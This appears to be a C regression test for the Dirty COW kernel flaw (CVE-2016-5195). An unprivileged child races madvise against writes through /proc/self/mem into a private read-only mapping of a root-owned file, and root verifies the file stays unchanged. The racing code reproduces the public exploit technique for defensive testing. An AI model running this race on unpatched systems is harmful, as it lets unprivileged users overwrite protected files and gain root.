/*
 * dirtycow.c - Dirty COW (CVE-2016-5195).
 *
 * Claim:  who may only read a file cannot change it: what a process writes
 *         into a private mapping of it, by /proc/self/mem, lands in a page of
 *         its own.
 * Method: a child that is nobody maps a file of root's, mode 0444, private
 *         and read-only.  One thread discards the page in a loop, so that the
 *         next access brings the file's page; another one writes to it
 *         through /proc/self/mem, which does not ask for the mapping's right.
 *         This is what the public exploits do, and nothing more.
 * Oracle: root, in another process, reads the file: every byte is as it was.
 *         And before the threads start, one such write is found in the
 *         mapping: else the test would pass where nothing can be written.
 * -X:     the mapping is shared with a file that may be written.
 */
#include "libvictim.h"

#include <sys/prctl.h>

static const char evil[] = "m00000000000000000";

static char *map;
static int mem;

/* As the exploits do: the address is the file's offset. */
static bool forced_write(void)
{
	return lseek(mem, (long)map, SEEK_SET) == (long)map &&
	       write(mem, evil, sizeof(evil)) == sizeof(evil);
}

/* Both go on for a while, whatever the other one does. */
static void *racer(void *arg)
{
	for (int i = 0; i < 200 && !stress_failed(); i++) {
		if (arg != NULL)
			stress_check(madvise(map, PAGE, MADV_DONTNEED) == 0,
				     "madvise: %s", strerror(errno));
		else
			stress_check(forced_write(), "write to memory: %s",
				     strerror(errno));
	}
	return NULL;
}

static void map_file(const char *path)
{
	int fd = open(path, stress.wrong ? O_RDWR : O_RDONLY);

	map = stress.wrong ? mmap(NULL, PAGE, PROT_READ | PROT_WRITE,
				  MAP_SHARED, fd, 0) :
			     mmap(NULL, PAGE, PROT_READ, MAP_PRIVATE, fd, 0);
	if (map == MAP_FAILED)
		bail_out("map the file: %s", strerror(errno));
	close(fd);
}

static void attack(const char *path)
{
	victim_become_nobody(path);
	/* Linux hides the memory of who has changed its user. */
	prctl(PR_SET_DUMPABLE, 1, 0, 0, 0);
	map_file(path);
	mem = open("/proc/self/mem", O_RDWR);
	if (mem < 0)
		bail_out("/proc/self/mem: %s", strerror(errno));
	stress_check(forced_write() && memcmp(map, evil, sizeof(evil)) == 0,
		     "a forced write is not seen in the mapping: \"%s\"", map);
	while (stress_go_on()) {
		stress_threads(2, racer);
		stress_round();
	}
}

int main(int argc, char **argv)
{
	char path[] = "/tmp/dirtycow.XXXXXX";

	stress_begin(argc, argv, 2, "a file that may only be read does not change");
	victim_watch(path, 1, attack);
	return stress_end();
}
